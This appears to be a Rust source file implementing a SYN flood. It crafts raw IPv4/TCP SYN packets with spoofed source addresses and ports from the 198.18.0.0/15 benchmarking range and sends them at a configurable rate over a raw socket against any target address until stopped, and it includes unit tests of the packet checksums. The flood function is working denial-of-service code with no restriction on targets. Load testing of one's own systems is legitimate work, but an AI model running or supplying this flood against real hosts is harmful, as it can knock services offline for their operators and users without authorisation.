//! A flood of connection requests whose senders do not exist.

use rustix::net::{AddressFamily, Protocol, SendFlags, SocketType, sendto, socket};
use std::net::{Ipv4Addr, SocketAddrV4};
use std::num::NonZeroU32;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::{Duration, Instant};

/// IPPROTO_RAW: the packet is sent with the header that it has.
const RAW: u32 = 255;
/// Requests that are sent at a time.
const BURST: u64 = 20;

/// Sends SYN segments to `target`, so many a second, until it is told to stop, each from another address and port of
/// 198.18.0.0/15 (RFC 2544: nobody has these). Tells how many.
///
/// # Errors
/// Without the right to send such packets.
pub fn flood(target: SocketAddrV4, rate: u64, stop: &AtomicBool) -> Result<u64, String> {
    let text = |error: rustix::io::Errno| format!("can't send such packets: {error}");
    let raw = NonZeroU32::new(RAW).map(Protocol::from_raw);
    let socket = socket(AddressFamily::INET, SocketType::RAW, raw).map_err(text)?;
    let start = Instant::now();
    let mut sent = 0;
    while !stop.load(Ordering::Relaxed) {
        for _ in 0..BURST {
            let mixed = (sent as u32).wrapping_mul(2_654_435_761);
            let source = Ipv4Addr::from_bits(0xc612_0000 | mixed >> 15);
            let packet = request(
                SocketAddrV4::new(source, 1024 + (mixed as u16 >> 1)),
                target,
                mixed,
            );
            match sendto(&socket, &packet, SendFlags::empty(), &target) {
                // A queue that is full loses packets, as queues do.
                Ok(_) | Err(rustix::io::Errno::NOBUFS) => sent += 1,
                Err(error) => return Err(text(error)),
            }
        }
        let due = Duration::from_secs_f64(sent as f64 / rate as f64);
        thread::sleep(due.saturating_sub(start.elapsed()));
    }
    Ok(sent)
}

/// An IPv4 packet (RFC 791) with a SYN segment (RFC 9293) that offers a segment size, as clients do.
fn request(source: SocketAddrV4, target: SocketAddrV4, sequence: u32) -> [u8; 44] {
    let mut packet = [0; 44];
    let (header, segment) = packet.split_at_mut(20);
    header[0] = 0x45;
    header[2..4].copy_from_slice(&44_u16.to_be_bytes());
    header[8] = 64;
    header[9] = 6;
    header[12..16].copy_from_slice(&source.ip().octets());
    header[16..20].copy_from_slice(&target.ip().octets());
    let sum = checksum(0, header);
    header[10..12].copy_from_slice(&sum.to_be_bytes());
    segment[0..2].copy_from_slice(&source.port().to_be_bytes());
    segment[2..4].copy_from_slice(&target.port().to_be_bytes());
    segment[4..8].copy_from_slice(&sequence.to_be_bytes());
    segment[12] = 6 << 4;
    segment[13] = 2; // SYN
    segment[14..16].copy_from_slice(&64240_u16.to_be_bytes());
    segment[20..24].copy_from_slice(&[2, 4, 0x05, 0xb4]); // at most 1460 bytes
    let pseudo_header = [&header[12..20], &[0, 6, 0, 24]].concat();
    let start = u32::from(!checksum(0, &pseudo_header));
    let sum = checksum(start, segment);
    segment[16..18].copy_from_slice(&sum.to_be_bytes());
    packet
}

/// The Internet's checksum (RFC 1071) of an even number of bytes.
fn checksum(start: u32, bytes: &[u8]) -> u16 {
    let mut sum = start;
    for pair in bytes.chunks_exact(2) {
        sum += u32::from(u16::from_be_bytes([pair[0], pair[1]]));
    }
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_request_is_right_by_its_own_sums() {
        let packet = request(
            SocketAddrV4::new(Ipv4Addr::new(198, 18, 3, 4), 5000),
            SocketAddrV4::new(Ipv4Addr::new(10, 7, 0, 2), 80),
            0x1234_5678,
        );
        assert_eq!(checksum(0, &packet[..20]), 0);
        let pseudo_header = [&packet[12..20], &[0, 6, 0, 24]].concat();
        assert_eq!(
            checksum(u32::from(!checksum(0, &pseudo_header)), &packet[20..]),
            0
        );
    }

    #[test]
    fn the_checksum_is_that_of_the_standard() {
        // The example of RFC 1071, section 3.
        let bytes = [0x00, 0x01, 0xf2, 0x03, 0xf4, 0xf5, 0xf6, 0xf7];
        assert_eq!(checksum(0, &bytes), !0xddf2);
    }
}
